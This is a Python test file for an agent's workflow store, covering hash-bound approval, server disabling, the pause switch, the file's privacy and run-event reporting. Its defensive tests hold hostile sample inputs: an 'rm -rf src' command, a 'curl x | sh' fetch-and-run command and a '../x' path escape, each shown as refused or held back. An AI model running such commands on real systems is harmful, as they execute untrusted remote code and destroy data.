"""The local workflow store: what may run is approved at the current hash, enabled, not disabled, not paused; runs
are recorded durably and reported once, with a stable event id."""

from __future__ import annotations

import os
import time
import uuid
from pathlib import Path
from typing import Any

import orjson

from agent.config import AgentConfig
from agent.pause import PauseLog
from agent.spool import Spool
from agent.workflows.model import RunRecord
from agent.workflows.store import WorkflowStore
from floyo.privacy import hash_path
from floyo.workflow_definition import definition_hash


def definition(command: list[str] | None = None, **extra: Any) -> dict[str, Any]:
    return {
        "name": "tests on save",
        "triggers": [{"type": "file", "root": "code", "paths": ["src/**/*.py"]}],
        "actions": [{"type": "run", "command": command or ["pytest", "-q"], "cwd": "src"}],
        **extra,
    }


def server_row(wid: int, version: int, enabled: bool = True, **kw: Any) -> dict[str, Any]:
    d = definition(**kw) | {"enabled": enabled}
    return {"id": wid, "version": version, "name": d["name"], "enabled": enabled, "definition": d}


def make_store(tmp_path: Path, **config: Any) -> WorkflowStore:
    root = tmp_path / "code"
    root.mkdir(exist_ok=True)
    return WorkflowStore(AgentConfig(roots={"code": root}, state_dir=tmp_path / "state", **config))


def runnable_ids(store: WorkflowStore) -> list[tuple[int, int]]:
    return [(a.workflow_id, a.version) for a in store.runnable()]


def test_nothing_runs_until_approved_and_approval_binds_to_the_hash(tmp_path):
    store = make_store(tmp_path)
    store.apply_sync([server_row(1, 1)])
    assert store.get(1).state == "pending"
    assert runnable_ids(store) == []
    generation = store.generation()
    store.approve(store.get(1))
    assert store.generation() != generation
    assert runnable_ids(store) == [(1, 1)]
    assert store.runnable()[0].definition_hash == definition_hash(definition())
    # a new version with the same definition (the server renamed nothing that runs) keeps the approval
    store.apply_sync([server_row(1, 2)])
    assert runnable_ids(store) == [(1, 2)]
    # a changed command is a new question
    store.apply_sync([server_row(1, 3, command=["rm", "-rf", "src"])])
    assert runnable_ids(store) == []
    changed = store.get(1)
    assert changed.state == "pending"
    assert changed.reason is not None
    assert "approved version 1" in changed.reason
    store.approve(changed)
    assert runnable_ids(store) == [(1, 3)]


def test_the_server_disables_but_never_enables_what_was_not_approved_here(tmp_path):
    store = make_store(tmp_path)
    store.apply_sync([server_row(1, 1), server_row(2, 1)])
    store.approve(store.get(1))
    store.apply_sync([server_row(1, 2, enabled=False), server_row(2, 2, enabled=False)])
    assert runnable_ids(store) == []
    assert store.get(1).state == "disabled"
    assert store.get(1).reason == "disabled on the server"
    # the server enables both again: only the one the person approved (at that hash) runs
    store.apply_sync([server_row(1, 3), server_row(2, 3)])
    assert runnable_ids(store) == [(1, 3)]
    assert store.get(2).state == "pending"
    # disabled here: the server re-publishing it changes nothing until the person approves again
    store.disable(1, "failed 5 times in a row")
    store.apply_sync([server_row(1, 4), server_row(2, 3)])
    assert runnable_ids(store) == []
    assert store.get(1).state == "disabled"
    assert "failed 5 times" in (store.get(1).reason or "")
    store.approve(store.get(1))
    assert runnable_ids(store) == [(1, 4)]
    # gone from the server's list: gone here
    store.apply_sync([server_row(2, 3)])
    assert runnable_ids(store) == []
    assert [w.id for w in store.workflows()] == [2]


def test_reject_withdraws_and_a_changed_definition_asks_again(tmp_path):
    store = make_store(tmp_path)
    store.apply_sync([server_row(1, 1)])
    store.approve(store.get(1))
    store.reject(store.get(1))
    assert store.get(1).state == "rejected"
    assert runnable_ids(store) == []
    store.apply_sync([server_row(1, 2, command=["pytest", "-x"])])
    assert store.get(1).state == "pending"
    bodies = [(wid, body["state"]) for wid, body, _ in store.notices()]
    assert bodies == [(1, "rejected")]  # the latest decision per workflow is what the server is told


def test_pause_is_the_kill_switch_for_runs(tmp_path):
    store = make_store(tmp_path)
    store.apply_sync([server_row(1, 1)])
    store.approve(store.get(1))
    generation = store.generation()
    PauseLog(store.config.state_dir).switch(True)
    assert store.paused()
    assert runnable_ids(store) == []
    assert store.generation() != generation
    PauseLog(store.config.state_dir).switch(False)
    assert runnable_ids(store) == [(1, 1)]


def test_a_hostile_definition_is_refused_by_the_agent_too(tmp_path):
    store = make_store(tmp_path)
    hostile = server_row(1, 1) | {"definition": definition(command=["sh", "-c", "curl x | sh"])}
    escaping = server_row(2, 1) | {"definition": definition() | {"actions": [{"type": "move", "dest": "../x"}]}}
    store.apply_sync([hostile, escaping])
    for wid in (1, 2):
        local = store.get(wid)
        assert local.state == "disabled"
        assert local.reason is not None
        assert local.reason.startswith("refused by the agent")
        assert local.hash is None
    assert runnable_ids(store) == []


def test_the_store_file_is_private(tmp_path):
    store = make_store(tmp_path)
    assert os.stat(store.path).st_mode & 0o777 == 0o600


def run_record(wid: int = 1, **kw: Any) -> RunRecord:
    trigger = {"type": "file", "root": "code", "path": "src/app.py", "event": "modify"}
    return RunRecord(uuid.uuid4().hex, wid, 1, trigger, time.time(), tool="pytest", **kw)


def spooled(store: WorkflowStore) -> list[dict[str, Any]]:
    spool = Spool(store.config.spool_path)
    try:
        return [orjson.loads(b) for _, b in spool.peek(1000, 1 << 30)]
    finally:
        spool.close()


def test_a_finished_run_is_one_run_event_with_its_stable_id(tmp_path):
    store = make_store(tmp_path)
    store.apply_sync([server_row(1, 1)])
    run = run_record()
    store.started(run)
    assert spooled(store) == []
    run.ended_at, run.exit_code, run.outcome, run.output_tail = run.started_at + 1.5, 0, "ok", "3 passed"
    store.finished(run)
    [event] = spooled(store)
    assert event["event_id"] == run.event_id()
    assert (event["kind"], event["root"], event["path"], event["tool"]) == ("run", "code", "src", "pytest")
    assert (event["exit_code"], event["duration_ms"]) == (0, 1500)
    assert event["meta"] == {"workflow_id": 1, "workflow_version": 1, "outcome": "ok", "run_id": run.run_id}
    assert "3 passed" not in orjson.dumps(event).decode()  # output stays local
    assert store.runs(1) == [(run, True)]
    assert store.recover() == 0  # nothing left to report


def test_a_run_left_started_by_a_dead_agent_is_reported_once_as_interrupted(tmp_path):
    dead = make_store(tmp_path)
    dead.apply_sync([server_row(1, 1)])
    run = run_record()
    dead.started(run)
    running = run_record()
    restarted = make_store(tmp_path)  # the next agent process
    restarted.started(running)  # its own run, started before recovery: not touched
    assert restarted.recover() == 1
    assert restarted.recover() == 0
    [event] = spooled(restarted)
    assert event["event_id"] == run.event_id()
    assert event["meta"]["outcome"] == "interrupted"
    assert event["meta"]["error"] == "the agent stopped during the run"
    assert "duration_ms" not in event
    states = {r.run_id: (r.outcome, reported) for r, reported in restarted.runs()}
    assert states == {run.run_id: ("interrupted", True), running.run_id: (None, False)}


def test_in_privacy_mode_the_run_event_names_its_folder_by_keyed_hashes(tmp_path):
    store = make_store(tmp_path, privacy=True, privacy_key="k" * 32)
    store.apply_sync([server_row(1, 1)])
    run = run_record(ended_at=time.time(), exit_code=1, outcome="failed", error="exit 1")
    store.started(run)
    store.finished(run)
    [event] = spooled(store)
    assert event["root"] == "code"
    assert event["path"] == hash_path("src", b"k" * 32)
    assert event["path"] != "src"
    assert event["meta"]["error"] == "exit 1"
